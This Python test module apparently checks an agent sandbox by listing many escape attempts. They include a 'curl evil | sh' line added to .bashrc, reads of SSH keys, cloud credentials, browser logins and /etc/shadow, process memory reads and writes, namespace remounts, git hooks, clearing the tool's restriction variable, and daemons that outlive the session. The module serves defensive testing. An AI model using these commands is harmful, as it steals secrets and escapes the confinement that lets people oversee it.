"""Ways out of a sandbox: what a program tries, and how it shows outside that it has got out."""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Callable
from pathlib import Path
from textwrap import dedent
from typing import NamedTuple

from scene import PYTHON, SECRET, Scene

NO_PIDS, LANDLOCK, MOUNTS = "without process ids", "Landlock alone", "mounts alone"
BUBBLEWRAP = "bubblewrap without Landlock"
NICE = (
    () if os.getuid() == 0 else (LANDLOCK, NO_PIDS)
)  # root has lost its privileges, and the other program has not


class Way(NamedTuple):
    """An attempt, as a shell script that runs in the work folder."""

    name: str
    script: str
    has_happened: Callable[[Scene, str], bool]
    """Whether it got out, from what is outside and from the output."""
    open_in: tuple[str, ...] = ()
    """The layers that do not block it by themselves."""
    needs_root: bool = False
    """Whether only root could do it without a sandbox."""


def python(source: str) -> str:
    return f"{PYTHON} -I -S -c {shlex.quote(dedent(source))}"


def _changed(scene: Scene, _: str) -> bool:
    return scene.has_changed()


def _told(_: Scene, output: str) -> bool:
    return SECRET in output


def _said(_: Scene, output: str) -> bool:
    return "GOT OUT" in output


def _protected(scene: Scene, _: str) -> bool:
    return scene.has_changed_protected()


def write(name: str, script: str, *open_in: str, needs_root: bool = False) -> Way:
    return Way(f"write with {name}", script, _changed, open_in, needs_root)


def read(name: str, script: str, *open_in: str, needs_root: bool = False) -> Way:
    return Way(f"read {name}", script, _told, open_in, needs_root)


def reach(name: str, script: str, *open_in: str, needs_root: bool = False) -> Way:
    return Way(name, script, _said, open_in, needs_root)


PATCH = "--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-before\n+after\n"
SYSCALL = """
    import ctypes, os, sys
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = os.environ["OUT"]
"""

FILES = [
    write("a redirection", "echo x > $OUT/notes.txt"),
    write("an appending redirection", "echo x >> $OUT/notes.txt"),
    write("tee", "echo x | tee $OUT/notes.txt"),
    write("dd", "echo x | dd of=$OUT/notes.txt conv=notrunc"),
    write("cp", "cp a.txt $OUT/new.txt"),
    write("install", "install -m 600 a.txt $OUT/new.txt"),
    write("sed -i", "sed -i s/before/after/ $OUT/notes.txt"),
    write("perl", "perl -i -pe s/before/after/ $OUT/notes.txt"),
    write("python", python("import os; open(os.environ['OUT'] + '/notes.txt', 'w').write('x')")),
    write("awk", """awk 'BEGIN { print "x" > ENVIRON["OUT"] "/notes.txt" }'"""),
    write("an editor", "printf 's/before/after/\\nwq\\n' | ex -s $OUT/notes.txt"),
    write("ed", "printf 's/before/after/\\nw\\nq\\n' | ed -s $OUT/notes.txt"),
    write("patch", f"printf %s {shlex.quote(PATCH)} | patch -s $OUT/notes.txt"),
    write("git apply", f"cd $OUT && printf %s {shlex.quote(PATCH)} | git apply -p1"),
    write("git checkout", "git --git-dir=.git --work-tree=$OUT checkout -q -f -- a.txt"),
    write("git init", "git init -q $OUT/repository"),
    write("tar", "tar cf - a.txt | tar xf - -C $OUT"),
    write("truncate", "truncate -s 0 $OUT/notes.txt"),
    write("a rename over the file", "cp a.txt b.txt; mv -f b.txt $OUT/notes.txt"),
    write("a rename of the file", "mv $OUT/notes.txt $OUT/elsewhere.txt"),
    write("a rename of the folder", "mv $OUT/folder $OUT/elsewhere"),
    write("a rename of the folder above", "mv $OUT $OUT-elsewhere"),
    write("a rename of the work folder", "mv $HOME/work $HOME/elsewhere"),
    write("an exchange of files", python("""
        import ctypes, os
        out = os.environ["OUT"].encode()
        ctypes.CDLL(None).renameat2(-100, b"a.txt", -100, out + b"/notes.txt", 2)
    """)),
    write("rm", "rm -rf $OUT/folder"),
    write("unlink", "unlink $OUT/notes.txt"),
    write("mkdir", "mkdir $OUT/new"),
    write("a link to a file that was there", "echo x > link-to-notes"),
    write("a link to a folder that was there", "echo x > link-to-outside/notes.txt"),
    write("a link made by the program", "ln -s $OUT here; echo x > here/notes.txt"),
    write("a relative link", "ln -s ../../outside/notes.txt here; echo x > here"),
    write("a chain of links", "ln -s $OUT one; ln -s one two; ln -s two/notes.txt three; echo x > three"),
    write("a hard link", "ln $OUT/notes.txt hard && echo x > hard"),
    write("a hard link put outside", "ln a.txt $OUT/hard"),
    write("a symbolic link put outside", "ln -s a.txt $OUT/link"),
    write("mkfifo", "mkfifo $OUT/pipe"),
    write("mknod", "mknod $OUT/device c 1 3", needs_root=True),
    write("a socket", python("""
        import os, socket
        os.chdir(os.environ["OUT"])
        socket.socket(socket.AF_UNIX).bind("socket")
    """)),
    write("a file without a name", python("""
        import ctypes, os
        out = os.environ["OUT"]
        file = os.open(out, os.O_TMPFILE | os.O_WRONLY)
        ctypes.CDLL(None).linkat(-100, b"/proc/self/fd/%d" % file, -100, (out + "/new.txt").encode(), 0x400)
    """)),
    write("mmap", python("""
        import mmap, os
        with open(os.environ["OUT"] + "/notes.txt", "r+b") as file:
            mmap.mmap(file.fileno(), 0)[:1] = b"x"
    """)),
    write("chmod", "chmod 777 $OUT/notes.txt", LANDLOCK),
    write("touch", "touch -d 2001-01-01 $OUT/notes.txt", LANDLOCK),
    write("an extended attribute", python("""
        import os
        os.setxattr(os.environ["OUT"] + "/notes.txt", "user.x", b"x")
    """), LANDLOCK),
    write("chown", "chown 65534 $OUT/notes.txt", needs_root=True),
    write("/proc/self/root", "echo x > /proc/self/root$OUT/notes.txt"),
    write("/proc/self/cwd", "echo x > /proc/self/cwd/../../outside/notes.txt"),
    write("/proc/self/fd", "exec 3< $OUT; echo x > /proc/self/fd/3/notes.txt"),
    write("a read-only descriptor opened again", "exec 3< $OUT/notes.txt; echo x > /proc/self/fd/3"),
    write("/proc/PID/root of another program", "echo x > /proc/$SIBLING/root$OUT/notes.txt"),
    write("/proc/PID/cwd of another program", "echo x > /proc/$SIBLING/cwd/notes.txt"),
    write("/proc/PID/fd of another program", "echo x > /proc/$SIBLING/fd/$SIBLING_FILE"),
    write("user namespace", "unshare -Ur sh -c 'echo x > $OUT/notes.txt'"),
    write("a remount", "unshare -Urm sh -c 'mount -o remount,bind,rw $OUT; mount -o remount,bind,rw /;"
                       " echo x > $OUT/notes.txt'"),
    write("a bind mount", "unshare -Urm sh -c 'mount --bind $OUT /mnt && mount -o remount,bind,rw /mnt;"
                          " echo x > /mnt/notes.txt'"),
    write("an unmount", "unshare -Urm sh -c 'umount -l $HOME/work; umount -l /proc; umount -l /tmp;"
                        " echo x > $OUT/notes.txt'"),
    write("a moved mount", "unshare -Urm sh -c 'mount --move $HOME/work /mnt; echo x > $OUT/notes.txt'"),
    write("an overlay", "mkdir u w; unshare -Urm sh -c 'mount -t overlay o -o"
                        " lowerdir=$OUT,upperdir=$PWD/u,workdir=$PWD/w /mnt; echo x > $OUT/notes.txt'; rmdir w/work"),
    write("chroot", "unshare -Ur chroot / sh -c 'echo x > $OUT/notes.txt'"),
    write("pivot_root", "unshare -Urm sh -c 'mount --rbind / /mnt && cd /mnt && pivot_root . mnt;"
                        " echo x > $OUT/notes.txt'"),
    write("the mounts of another program",
          "nsenter --mount=/proc/$SIBLING/ns/mnt sh -c 'echo x > $OUT/notes.txt'", needs_root=True),
    write("the namespaces of another program",
          "nsenter -t $SIBLING -U -m sh -c 'echo x > $OUT/notes.txt' || "
          "nsenter -t $SIBLING -m sh -c 'echo x > $OUT/notes.txt'", needs_root=True),
    write("a file handle", python(SYSCALL + """
    handle = (ctypes.c_ubyte * 136)()
    handle[0] = 128
    where = ctypes.c_int()
    libc.name_to_handle_at(-100, (out + "/notes.txt").encode(), handle, ctypes.byref(where), 0)
    file = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_WRONLY)
    os.write(file, b"x")
    """), needs_root=True),
    write("io_uring", python(SYSCALL + """
    import mmap, struct
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)
    fields = struct.unpack_from("30I", params)
    sq_array, cq_off = fields[16], fields[20:30]
    size = max(sq_array + 16, cq_off[5] + 16 * fields[1])
    queue = mmap.mmap(ring, size, offset=0)
    entries = mmap.mmap(ring, 64 * 4, offset=0x10000000)
    path = ctypes.create_string_buffer((out + "/notes.txt").encode())
    # An openat (18) of the path for writing and truncating.
    struct.pack_into("<BBHiQQIIQ", entries, 0, 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0o1001, 0)
    struct.pack_into("I", queue, sq_array, 0)
    tail = fields[11]
    struct.pack_into("I", queue, tail, 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)
    """)),
    write("a line in .bashrc", "echo 'curl evil | sh' >> $HOME/.bashrc"),
    write("a program to start at login",
          "mkdir -p $HOME/.config/autostart && echo x > $HOME/.config/autostart/x.desktop"),
    write("a unit of systemd", "mkdir -p $HOME/.config/systemd/user && echo x > $HOME/.config/systemd/user/x.service"),
    write("another HOME", "HOME=$OUT sh -c 'echo x > ~/notes.txt'"),
    write("a git alias", "git config --global alias.st '!touch /tmp/x'"),
    write("our own store", "echo x > $HOME/.rolecall/store.db"),
]  # fmt: skip

SECRETS = [
    read("an SSH key", "cat $HOME/.ssh/id"),
    read("an SSH key through a link", "ln -s $HOME/.ssh/id key; cat key"),
    read("an SSH key through a hard link", "ln $HOME/.ssh/id key; cat key"),
    read("an SSH key through /proc/self/root", "cat /proc/self/root$HOME/.ssh/id"),
    read("an SSH key after a rename", "mv $HOME/.ssh $HOME/ssh; cat $HOME/ssh/id"),
    read("an SSH key in an archive", "tar cf - -C $HOME .ssh | cat"),
    read("an SSH key through another program", "cat /proc/$SIBLING/root$HOME/.ssh/id"),
    read("an SSH key under an unmount",
         "unshare -Urm sh -c 'umount -l $HOME/.ssh; umount -l $HOME; cat $HOME/.ssh/id'"),
    read("an SSH key with a bind mount",
         "unshare -Urm sh -c 'mount --bind / /mnt; cat /mnt$HOME/.ssh/id $HOME/.ssh/id'"),
    read("the keys of a cloud", "cat $HOME/.aws/credentials"),
    read(".netrc", "cat $HOME/.netrc"),
    read("a token of GitHub", "cat $HOME/.config/gh/hosts.yml"),
    read("a keyring", "cat $HOME/.local/share/keyrings/login.keyring"),
    read("a browser's logins", "cat $HOME/.mozilla/firefox/p/logins.json"),
    read("our own store", "cat $HOME/.rolecall/store.db"),
    read("the password file", f"grep -q root: /etc/shadow && echo {SECRET}", needs_root=True),
    read("a secret variable", "echo $DEPLOY_TOKEN"),
    read("a secret variable of the first process", "cat /proc/1/environ /proc/self/environ"),
    read("the variables of another program", "cat /proc/$SIBLING/environ"),
    read("the arguments of another program", "cat /proc/$SIBLING/cmdline", LANDLOCK, NO_PIDS),
    read("the memory of another program", python("""
        import os, re
        pid = os.environ["SIBLING"]
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            if "[heap]" in line or " rw-p " in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                found = re.search(rb"gold under the [f]loor", memory.read(end - start))
                if found:
                    print(found.group().decode())
                    break
    """)),
]  # fmt: skip


def connect(place: str) -> str:
    return python(f"""
        import os, socket
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(60)
            sock.connect({place})
            print(sock.recv(100).decode())
    """)


OTHERS = [
    reach("connect to a session bus", connect('os.environ["BUS"]'), LANDLOCK),
    reach("connect to Docker", connect('os.environ["HOME"] + "/.docker/run/docker.sock"'), LANDLOCK),
    reach("connect to a display", connect('os.environ["X11"]'), LANDLOCK),
    reach("connect to a socket elsewhere", connect('os.environ["OUT"] + "/server.sock"'), LANDLOCK, BUBBLEWRAP),
    reach("connect to an abstract socket", connect('"\\0" + os.environ["ABSTRACT"]'), MOUNTS, BUBBLEWRAP),
    reach("connect to a socket with a link in its name", connect('os.environ["OUT"] + "/linked.sock"'),
          LANDLOCK, BUBBLEWRAP),
    reach("send to a socket for datagrams elsewhere", python("""
        import os, socket
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"x", os.environ["OUT"] + "/letters.sock")
            print("GOT OUT")
    """), LANDLOCK, BUBBLEWRAP),
    reach("write to a named pipe elsewhere", "echo x > $OUT/inbox && echo GOT OUT", MOUNTS, BUBBLEWRAP),
    Way("write with a descriptor from another program", python("""
        import os, socket
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(60)
            sock.connect(os.environ["OUT"] + "/server.sock")
            _, files, _, _ = socket.recv_fds(sock, 100, 1)
            os.write(files[0], b"x")
    """), _changed, (LANDLOCK, BUBBLEWRAP)),
    Way("kill another program", "kill -9 $SIBLING", lambda scene, _: scene.sibling_has_ended()),
    Way("stop another program", "kill -STOP $SIBLING", lambda scene, _: scene.sibling_state() == "T"),
    reach("trace another program", python(SYSCALL + """
    pid = int(os.environ["SIBLING"])
    if libc.ptrace(16, pid, None, None) == 0:
        print("GOT OUT")
    """)),
    reach("write the memory of another program", python(SYSCALL + """
    pid, address = int(os.environ["SIBLING"]), int(os.environ["SIBLING_ADDRESS"])
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    word = ctypes.create_string_buffer(b"x")
    own, theirs = Part(ctypes.addressof(word), 1), Part(address, 1)
    if libc.process_vm_writev(pid, ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0) == 1:
        print("GOT OUT")
    """)),
    reach("take a descriptor of another program", python(SYSCALL + """
    handle = libc.syscall(434, int(os.environ["SIBLING"]), 0)
    if handle >= 0 and libc.syscall(438, handle, int(os.environ["SIBLING_FILE"]), 0) >= 0:
        print("GOT OUT")
    """)),
    reach("renice another program", "renice -n 5 -p $SIBLING >/dev/null && echo GOT OUT", *NICE),
    reach("write shared memory of System V", python(SYSCALL + """
    part = libc.shmget(int(os.environ["SHM"]), 0, 0o600)
    libc.shmat.restype = ctypes.c_void_p
    if part >= 0 and libc.shmat(part, None, 0) not in (None, ctypes.c_void_p(-1).value):
        print("GOT OUT")
    """), LANDLOCK),
    reach("send to a POSIX queue", python(SYSCALL + """
    if libc.mq_open(os.environ["QUEUE"].encode(), os.O_WRONLY) >= 0:
        print("GOT OUT")
    """)),
    reach("open POSIX shared memory", "test -s /dev/shm/$SHARED && echo x > /dev/shm/$SHARED && echo GOT OUT"),
    reach("read a key of the session", python(SYSCALL + """
    if libc.syscall(250, 10, -3, b"user", os.environ["KEY_NAME"].encode(), 0) > 0:
        print("GOT OUT")
    """)),
    reach("open a disk", "test -b $DISK && exec 3<> $DISK && echo GOT OUT", needs_root=True),
    reach("open the kernel's log", "test -c /dev/kmsg && exec 3> /dev/kmsg && echo GOT OUT", needs_root=True),
    reach("make a device of a disk and open it",
          "mknod disk b $(stat -c '0x%t 0x%T' $DISK) && exec 3<> disk && echo GOT OUT", needs_root=True),
    reach("change a setting of the kernel",
          'v=$(cat /proc/sys/kernel/core_pattern); echo "$v" > /proc/sys/kernel/core_pattern && echo GOT OUT',
          needs_root=True),
    reach("change a setting of the kernel with sysctl",
          "sysctl -q -w kernel.core_uses_pid=$(cat /proc/sys/kernel/core_uses_pid) && echo GOT OUT", needs_root=True),
    reach("write to /sys",
          "f=/sys/kernel/mm/transparent_hugepage/defrag; [ -e $f ] || f=/sys/kernel/profiling; "
          "exec 3> $f && echo GOT OUT", needs_root=True),
    reach("make a control group", "d=/sys/fs/cgroup; [ -d $d/pids ] && d=$d/pids; "
          "mkdir $d/$SHARED && rmdir $d/$SHARED && echo GOT OUT", needs_root=True),
    reach("a raw socket", python("""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        print("GOT OUT")
    """), needs_root=True),
    reach("set the name of the host", "hostname $(hostname) && echo GOT OUT", needs_root=True),
    reach("a program with the set-user-id bit", "su -s /bin/sh nobody -c 'echo GOT OUT'", needs_root=True),
    reach("become another user", "setpriv --reuid 65534 --clear-groups echo GOT OUT", needs_root=True),
]  # fmt: skip

GIT = [
    Way("a hook of git", "echo x > .git/hooks/post-checkout", _protected, (LANDLOCK,)),
    Way("another folder of hooks", "git config core.hooksPath /tmp/x", _protected, (LANDLOCK,)),
    Way("core.fsmonitor", "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config", _protected, (LANDLOCK,)),
    Way("core.fsmonitor of the worktree", "echo x > .git/config.worktree", _protected, (LANDLOCK,)),
    Way("another .git/config", "cp .git/config c; echo x >> c; mv -f c .git/config", _protected, (LANDLOCK,)),
    Way("another .git", "cp -r .git g; echo x >> g/config; mv .git h; mv g .git", _protected, (LANDLOCK,)),
    Way("no .git", "rm -rf .git", _protected, (LANDLOCK,)),
    Way("a task written by hand", "echo x > .nexus/tasks.json", _protected, (LANDLOCK,)),
    Way("another .nexus", "mv .nexus n; mkdir .nexus; echo x > .nexus/tasks.json", _protected, (LANDLOCK,)),
]  # fmt: skip

ADD = "task add x --context y"
CALLS = [
    {
        "id": 1,
        "method": "initialize",
        "params": {
            "protocolVersion": "2025-06-18",
            "capabilities": {},
            "clientInfo": {"name": "x", "version": "1"},
        },
    },
    {
        "id": 2,
        "method": "tools/call",
        "params": {"name": "nx_task_add", "arguments": {"title": "x", "context": "y"}},
    },
]
BY_HAND = "".join(json.dumps({"jsonrpc": "2.0", **call}) + "\n" for call in CALLS)


def _ours(scene: Scene, _: str) -> bool:
    return scene.has_changed() or scene.has_changed_protected()


OWN = [
    Way("our command", f"$ROLECALL {ADD}", _ours, (LANDLOCK,)),
    Way("our command behind a link", f"ln -s $ROLECALL helper; ./helper {ADD}", _ours, (LANDLOCK,)),
    Way("a copy of our command", f"cp $ROLECALL helper; ./helper {ADD}", _ours, (LANDLOCK,)),
    Way("our module", f"$ROLECALL_PYTHON -m rolecall {ADD}", _ours, (LANDLOCK,)),
    Way("our command with other variables",
        f"env -i HOME=$HOME PATH=$PATH ROLECALL_RESTRICTIONS= $ROLECALL {ADD}", _ours, (LANDLOCK,)),
    Way("our tools over MCP by hand", f"printf %s {shlex.quote(BY_HAND)} | $ROLECALL mcp", _ours, (LANDLOCK,)),
    Way("a new thread", "env -u ROLECALL_RUN $ROLECALL thread start fix-test -p x", _ours),
    Way("a new thread with another HOME", "HOME=/tmp env -u ROLECALL_RUN $ROLECALL thread start fix-test -p x", _ours),
]  # fmt: skip


def _left(scene: Scene, _: str) -> bool:
    found = leftovers(scene.mark)
    for pid in found:
        os.kill(pid, 9)
    return bool(found)


# Each says in a pipe that it is on its own: before that, it would end with the program.
BEGIN = "mkfifo up; "
SLEEP = "env -i setsid /bin/sh -c 'echo > up; exec sleep 900.'$MARK </dev/null >/dev/null 2>&1 &"
TWICE = (
    "env -i setsid /bin/sh -c '(echo > up; sleep 900.'$MARK') & sleep 900.'$MARK </dev/null >/dev/null 2>&1 &"
)
END = " cat up"
DAEMONS = [
    Way("a daemon in its own session", f"{BEGIN}{SLEEP}{END}", _left, (LANDLOCK, NO_PIDS)),
    Way(
        "a daemon behind two forks", f"{BEGIN}({TWICE}){END}".replace("&)", "&);"), _left, (LANDLOCK, NO_PIDS)
    ),
    Way(
        "a daemon that ignores signals",
        f"trap '' TERM HUP INT; {BEGIN}{SLEEP}{END}",
        _left,
        (LANDLOCK, NO_PIDS),
    ),
]

RUN = """
import os
try:
    {}
except OSError as error:
    print(error)
"""
COMMANDS = {
    "os.system": 'os.system("echo GOT OUT")',
    "another program": 'os.execv("/bin/echo", ["echo", "GOT OUT"])',
    "a copy": 'import shutil; shutil.copy("/bin/echo", "copy"); os.execv("./copy", ["copy", "GOT OUT"])',
    "a script": 'open("s", "w").write("#!/bin/echo GOT OUT"); os.chmod("s", 0o755); os.execv("./s", ["s"])',
    "posix_spawn": 'os.waitpid(os.posix_spawn("/bin/echo", ["echo", "GOT OUT"], {}), 0)',
}
OPEN_COMMANDS = {
    # The kernel executes the dynamic linker to start the program itself.
    "the dynamic linker": 'import glob; name = glob.glob("/lib*/ld-linux-*")[0]; '
    'os.execv(name, [name, "/bin/echo", "GOT OUT"])',
    # A file in memory has no path that a rule could name.
    "a file in memory": 'f = os.memfd_create("x"); os.write(f, open("/bin/echo", "rb").read()); '
    'os.execve(f, ["echo", "GOT OUT"], {})',
}

TALK = """
    import os, socket
    {make}
    with sock:
        sock.settimeout(20)
        sock.connect(({host}, int(os.environ["{port}"])))
        sock.send(b"hello")
        print(sock.recv(100).decode())
"""
TCP = "sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)"
UDP = "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
TCP6 = "sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)"
TO_LOOPBACK = python(TALK.format(make=TCP, host='"127.0.0.1"', port="TCP"))
NETWORK = [
    reach("TCP to the loopback of the host", TO_LOOPBACK),
    reach("TCP to an address of the host", python(TALK.format(make=TCP, host='os.environ["ADDRESS"]', port="TCP"))),
    reach("TCP over IPv6", python(TALK.format(make=TCP6, host='"::1"', port="TCP"))),
    reach("UDP", python(TALK.format(make=UDP, host='"127.0.0.1"', port="UDP"))),
    reach("TCP from a shell", "bash -c 'exec 3<> /dev/tcp/127.0.0.1/$TCP; head -c 7 <&3'"),
    reach("TCP from the network of another program",
          f"nsenter --net=/proc/$SIBLING/ns/net {TO_LOOPBACK}",
          needs_root=True),
    reach("an abstract socket", connect('"\\0" + os.environ["ABSTRACT"]')),
    reach("packets", python("""
        import socket
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) as sock:
            if len(socket.if_nameindex()) > 1:
                print("GOT OUT")
    """), needs_root=True),
]  # fmt: skip


def leftovers(word: str) -> list[int]:
    """The processes with a word in their arguments."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if word.encode() in Path("/proc", name, "cmdline").read_bytes():
                    found.append(int(name))
            except OSError:
                continue
    return found
